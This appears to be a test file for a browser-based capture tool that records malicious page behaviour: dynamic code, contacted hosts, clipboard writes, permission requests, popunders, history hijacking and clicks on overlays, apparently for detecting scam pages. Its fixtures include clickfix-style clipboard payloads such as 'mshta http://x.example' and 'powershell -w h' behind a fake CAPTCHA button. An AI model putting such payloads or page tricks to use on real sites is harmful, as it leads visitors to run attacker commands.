/** What a browser look records of what pages do, and that no page can flood it or see it. */
import { afterAll, describe, expect, it } from 'vitest';
import { type Behaviour, behaviourCaps } from '../../../src/core/domain/behaviour.ts';
import type { Capture } from '../../../src/core/domain/capture.ts';
import { captureOf, type Portal, request, servePortal, testCapturer } from '../../support/loopback-portal.ts';

const capturer = testCapturer();
const open: Portal[] = [];
afterAll(async () => {
  await capturer.close();
  for (const portal of open) await portal.close();
});

async function serve(body: string): Promise<Portal> {
  const portal = await servePortal((req, res) => {
    const path = new URL(req.url ?? '/', 'http://x').pathname;
    if (path === '/')
      return void res
        .writeHead(200, { 'content-type': 'text/html; charset=utf-8' })
        .end(body.replaceAll('PORT', String(portal.port)));
    if (path.endsWith('.js'))
      return void res.writeHead(200, { 'content-type': 'text/javascript' }).end('window.loaded = true');
    if (path.endsWith('.exe')) return void res.writeHead(200, { 'content-type': 'application/octet-stream' }).end('MZ');
    return void res.writeHead(200, { 'content-type': 'text/plain', 'access-control-allow-origin': '*' }).end('ok');
  });
  open.push(portal);
  return portal;
}

async function looked(body: string, more = {}): Promise<Capture & { readonly behaviour: Behaviour }> {
  const portal = await serve(`<!doctype html><title>Cổng</title><h1>Cổng thông tin</h1>${body}`);
  const url = `http://127.0.0.1:${portal.port}/`;
  const capture = captureOf(await capturer.take(request(url, { tier: 'browser', ...more })));
  if (capture.behaviour === undefined) throw new TypeError('nothing was recorded');
  return { ...capture, behaviour: capture.behaviour };
}
const done = async (body: string, more = {}) => (await looked(body, more)).behaviour;
const script = (code: string) => `<script>${code}</script>`;

describe('code made at run time', () => {
  const ways: Record<string, string> = {
    eval: `eval('window.made = "here"')`,
    'a new function': `new Function('window.made = "here"')()`,
    'a timer of text': `setTimeout('window.made = "here"')`,
    'a script element': `const s = document.createElement('script'); s.textContent = 'window.made = "here"'; document.body.append(s); s.remove()`,
    'document.write': `document.write('<scr' + 'ipt>window.made = "here"</scr' + 'ipt>')`,
    'code with a false name': `eval('window.made = "here"\\n//# sourceURL=http://127.0.0.1/js/jquery.js')`,
    'a data address': `const s = document.createElement('script'); s.src = 'data:text/javascript,window.made = "here"'; document.body.append(s)`,
    'a frame of its own': `const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.eval('window.made = "here"')`,
  };
  it.each(Object.entries(ways))('%s', async (_name, way) => {
    const { code, over } = await done(script(way));
    expect(code.map(({ source }) => source).join()).toContain('made = "here"');
    expect(code).toHaveLength(1);
    expect(over).toEqual([]);
  });

  it('scripts of the page and of files are none, nor are ours', async () => {
    const { code } = await done(
      `${script('window.own = 1')}<script src="/js/a.js"></script><p onclick="own = 2">x</p>`,
    );
    expect(code).toEqual([]);
  });

  it('a debugger statement does not hold the look up', async () => {
    const { rendering } = await looked(script(`eval('debugger; document.title = "lived on"')`));
    expect(rendering?.html).toContain('lived on');
    expect(rendering?.broke).toBeUndefined();
  });
});

describe('hosts contacted', () => {
  it('are told by what the page wants of them, also where our own gate refuses', async () => {
    const { hosts } = await done(
      `<script src="http://scripts.example/a.js"></script><img src="http://pictures.example/a.png"><iframe src="http://frames.example/"></iframe>
      <link rel=stylesheet href="http://styles.example/a.css">` +
        script(`fetch('http://fetched.example/').catch(() => {}); fetch('http://posted.example/', { method: 'POST', body: 'x' }).catch(() => {});
        navigator.sendBeacon('http://beacons.example/', 'x'); new EventSource('http://streams.example/'); new WebSocket('ws://sockets.example/');
        new Worker(URL.createObjectURL(new Blob(["fetch('http://worked.example/').catch(() => {})"])))`),
    );
    const kinds = Object.fromEntries(hosts.map((one) => [one.host, one.kinds.join(' ')]));
    expect(kinds).toMatchObject({
      'scripts.example': 'script',
      'pictures.example': 'image',
      'frames.example': 'frame',
      'styles.example': 'style',
      'fetched.example': 'fetch',
      'posted.example': 'fetch post',
      'beacons.example': 'beacon post',
      'streams.example': 'stream',
      'sockets.example': 'socket',
    });
    expect(Object.keys(kinds)).toContain('worked.example');
  });
});

describe('what is asked of the visitor', () => {
  it('texts put on the clipboard are kept, whichever way', async () => {
    const { clipboard } = await done(
      `<textarea id=t>mshta http://x.example</textarea>${script(`navigator.clipboard.writeText('powershell -w h').catch(() => {}); t.select(); document.execCommand('copy')`)}`,
    );
    expect(clipboard).toEqual(['powershell -w h', 'mshta http://x.example']);
  });

  it('rights', async () => {
    const { asked } = await done(
      script(`Notification.requestPermission(); navigator.geolocation.getCurrentPosition(() => {}, () => {});
        navigator.mediaDevices.getUserMedia({ audio: true }).catch(() => {}); navigator.serviceWorker.register('/js/sw.js').catch(() => {})`),
    );
    expect([...asked].sort()).toEqual(['camera', 'location', 'notifications', 'service-worker']);
  });

  it('nothing of the recording can be seen', async () => {
    const {
      capture: { rendering },
      behaviour,
    } = await looked(
      `<output id=told></output>${script(`
      const text = (f) => Function.prototype.toString.call(f);
      const watched = [Clipboard.prototype.writeText, Notification.requestPermission, Geolocation.prototype.getCurrentPosition,
        MediaDevices.prototype.getUserMedia, ServiceWorkerContainer.prototype.register, document.execCommand];
      const names = Object.getOwnPropertyNames(window).filter((name) => /^_/.test(name));
      let conversions = 0;
      navigator.clipboard.writeText({ toString() { conversions += 1; return 'x'; } }).catch(() => {});
      told.textContent = JSON.stringify([watched.map(text), watched.map((f) => f.name + f.length), names, conversions]);`)}`,
    ).then((capture) => ({ capture, behaviour: capture.behaviour }));
    const told = /<output id="told">([^<]*)/.exec(rendering?.html ?? '')?.[1] ?? '';
    const methods = ['writeText', 'requestPermission', 'getCurrentPosition', 'getUserMedia', 'register', 'execCommand'];
    expect(JSON.parse(told)).toEqual([
      methods.map((name) => `function ${name}() { [native code] }`),
      ['writeText1', 'requestPermission0', 'getCurrentPosition1', 'getUserMedia0', 'register1', 'execCommand1'],
      [],
      1,
    ]);
    expect(behaviour.clipboard).toEqual(['']);
  });
});

describe('where a page wants to go', () => {
  it('windows and downloads, by address', async () => {
    const { windows, downloads } = await done(
      script(
        `window.open('http://ads.example/pop'); const a = document.createElement('a'); a.href = '/tai/tep.exe'; a.download = ''; document.body.append(a); a.click()`,
      ),
    );
    expect(windows).toEqual(['http://ads.example/pop']);
    expect(downloads.map((url) => new URL(url).pathname)).toEqual(['/tai/tep.exe']);
  });

  it('a history that is filled, and a page that holds the back button', async () => {
    const { history } = await done(
      script(
        `for (let i = 0; i < 12; i++) history.pushState(i, '', '?' + i); addEventListener('popstate', () => history.forward())`,
      ),
    );
    expect(history).toEqual({ changes: 12, entries: 12, holdsBack: true });
  });

  it('a page that only rewrites its address fills nothing', async () => {
    const { history } = await done(script(`history.replaceState(1, '', '?a')`));
    expect(history).toEqual({ changes: 1, entries: 0, holdsBack: false });
  });
});

describe('a page that floods the record', () => {
  const floods: Record<string, string> = {
    '30,000 pieces of code': `for (let i = 0; i < 30000; i++) eval('window.x' + i + ' = 1')`,
    'code of megabytes': `for (let i = 0; i < 8; i++) eval('/*' + 'x'.repeat(1e6) + i + '*/ window.y = 1')`,
    'a loop of address changes': `for (let i = 0; i < 5000; i++) history.pushState(i, '', '?' + i)`,
    'calls without end': `for (let i = 0; i < 5000; i++) { navigator.clipboard.writeText('x'.repeat(5000) + i).catch(() => {}); Notification.requestPermission() }`,
    'hosts without end': `for (let i = 0; i < 1000; i++) new Image().src = 'http://h' + i + '.example/'`,
  };
  it.each(Object.entries(floods))('%s', async (_name, flood) => {
    const capture = await looked(script(flood), { realTime: true });
    const { hosts, code, clipboard, history } = capture.behaviour;
    expect(hosts.length).toBeLessThanOrEqual(behaviourCaps.hosts);
    expect(code.length).toBeLessThanOrEqual(behaviourCaps.code);
    expect(code.reduce((sum, { source }) => sum + source.length, 0)).toBeLessThanOrEqual(behaviourCaps.codeCharacters);
    expect(clipboard.length).toBeLessThanOrEqual(behaviourCaps.clipboard);
    expect(history.entries).toBeLessThanOrEqual(50);
    expect(JSON.stringify(capture.behaviour).length).toBeLessThan(1_500_000);
    expect(capture.rendering?.html).toContain('Cổng thông tin');
  });
});

describe('a click', () => {
  const clicked = async (body: string, click: 'ground' | 'layer' = 'ground', more = {}) =>
    (await done(body, { click, ...more })).click;
  const ground = '<div style="height:700px"><p>Tin tức</p></div>';
  const popunder = script(`document.addEventListener('click', () => window.open('http://ads.example/pop'))`);

  it.each([false, true])('on neutral ground shows where the page leads (real time: %s)', async (realTime) => {
    expect(await clicked(ground + popunder, 'ground', { realTime })).toMatchObject({
      on: 'ground',
      leads: ['http://ads.example/pop'],
    });
    const away = script(
      `addEventListener('mousedown', () => setTimeout(() => { location = 'http://ads.example/away' }, 300))`,
    );
    expect(await clicked(ground + away, 'ground', { realTime })).toMatchObject({ leads: ['http://ads.example/away'] });
  });

  it('is never made where nobody asked for it', async () => {
    expect((await done(ground + popunder)).click).toBeNull();
  });

  it('reaches nobody', async () => {
    const portal = await serve(
      `<title>x</title>${ground}${script(`const send = () => {
      navigator.sendBeacon('/dem'); fetch('/dem', { method: 'POST', body: 'x' }).catch(() => {}); new Image().src = '/dem?anh'; location = '/di' };
      document.addEventListener('click', send)`)}`,
    );
    const capture = captureOf(await capturer.take(request(portal.url, { tier: 'browser', click: 'ground' })));
    expect(capture.behaviour?.click?.leads).toEqual([`${portal.url}di`]);
    expect(portal.requests.filter((line) => /dem|di$/.test(line))).toEqual([]);
  });

  const avoided: Record<string, string> = {
    'a link': '<a href="/x" style="position:fixed;inset:0"></a>',
    'a button': '<button style="position:fixed;inset:0"></button>',
    'a label': '<label style="position:fixed;inset:0"></label>',
    'a form': '<form style="position:fixed;inset:0"></form>',
    'an element with a handler': '<div onclick="hit()" style="position:fixed;inset:0"></div>',
    'an element inside one with a listener': `<div id=outer><p style="position:fixed;inset:0"></p></div>${script(`outer.addEventListener('click', () => hit())`)}`,
    'an element with a property for it': `<div id=own style="position:fixed;inset:0"></div>${script(`own.onmousedown = () => hit()`)}`,
  };
  it.each(Object.entries(avoided))('is never made on %s', async (_name, body) => {
    expect(await clicked(`${script(`window.hit = () => window.open('http://hit.example/')`)}${body}`)).toBeNull();
  });

  it('on a layer presses what is to be pressed there, where that is allowed', async () => {
    const layer = `<div style="position:fixed;inset:0;background:#fff"><button id=ok>Tôi không phải người máy</button></div>
      ${script(`ok.addEventListener('click', () => { navigator.clipboard.writeText('mshta http://x.example/a').catch(() => {}); fetch('http://log.example/').catch(() => {}) })`)}`;
    expect(await clicked(layer, 'layer')).toMatchObject({
      on: 'layer',
      clipboard: ['mshta http://x.example/a'],
      hosts: [{ host: 'log.example', kinds: ['fetch'] }],
    });
  });
});
